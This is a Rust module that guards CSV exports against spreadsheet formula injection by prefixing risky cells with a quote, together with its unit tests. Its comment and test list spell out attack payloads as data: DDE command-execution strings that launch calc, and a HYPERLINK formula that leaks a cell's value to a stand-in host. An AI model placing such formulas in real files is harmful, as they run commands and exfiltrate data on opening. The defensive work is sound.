//! CSV that leaves Loquat for people's spreadsheets. A cell that starts with `=`, `+`, `-` or
//! `@` is run as a formula by Excel, LibreOffice and Google Sheets when the file is opened
//! (`=HYPERLINK(...)` exfiltrates, `=cmd|'/c calc'!A1` executes); a leading tab or carriage
//! return is stripped by some of them, exposing what follows. OWASP's advice is to prefix such
//! cells with `'`, which spreadsheets show as text. Numbers are left alone (`-12.5` cannot run
//! and must stay a number).

use std::borrow::Cow;

/// `value` made safe to open in a spreadsheet: `'` before a leading `= + - @`, tab or CR,
/// unless the whole value is a plain number.
pub fn formula_safe(value: &str) -> Cow<'_, str> {
    let starts_like_formula = value
        .as_bytes()
        .first()
        .is_some_and(|b| matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
    if starts_like_formula && !is_plain_number(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// `[+-]digits[.digits]`: what a spreadsheet reads as a number, never as a formula.
fn is_plain_number(value: &str) -> bool {
    let unsigned = value.strip_prefix(['+', '-']).unwrap_or(value);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

/// How CSV cells are written: as they are, or [`formula_safe`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvCells {
    /// Prefix formula-like cells (the default: files are opened by people).
    FormulaSafe,
    /// Values exactly as stored (for machine consumers).
    Raw,
}

impl CsvCells {
    /// `FormulaSafe` when `escape`, else `Raw`.
    pub fn escaping(escape: bool) -> Self {
        if escape { Self::FormulaSafe } else { Self::Raw }
    }

    /// One cell as this mode writes it.
    pub fn cell<'a>(self, value: &'a str) -> Cow<'a, str> {
        match self {
            Self::FormulaSafe => formula_safe(value),
            Self::Raw => Cow::Borrowed(value),
        }
    }

    /// [`CsvCells::cell`] as bytes, as `csv::Writer::write_record` takes them (no copy for a
    /// cell left alone).
    pub fn cell_bytes<'a>(self, value: &'a str) -> Cow<'a, [u8]> {
        match self.cell(value) {
            Cow::Borrowed(text) => Cow::Borrowed(text.as_bytes()),
            Cow::Owned(text) => Cow::Owned(text.into_bytes()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_prefixed_with_a_quote() {
        for attack in [
            "=cmd|'/c calc'!A1",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "+44 20 7946 0958",
        ] {
            assert_eq!(formula_safe(attack), format!("'{attack}"), "{attack:?}");
        }
    }

    #[test]
    fn ordinary_values_and_numbers_are_left_alone() {
        for value in [
            "",
            "jane@example.com",
            "a=b",
            "-12.5",
            "+7",
            "42",
            "1.0",
            "O'Brien",
        ] {
            assert_eq!(formula_safe(value), value, "{value:?}");
        }
        for not_number in ["-", "-.5", "-1.", "+1e5", "--1"] {
            assert_eq!(formula_safe(not_number), format!("'{not_number}"));
        }
    }

    #[test]
    fn raw_mode_writes_values_as_stored() {
        assert_eq!(CsvCells::escaping(false).cell("=1+1"), "=1+1");
        assert_eq!(CsvCells::escaping(true).cell("=1+1"), "'=1+1");
    }
}
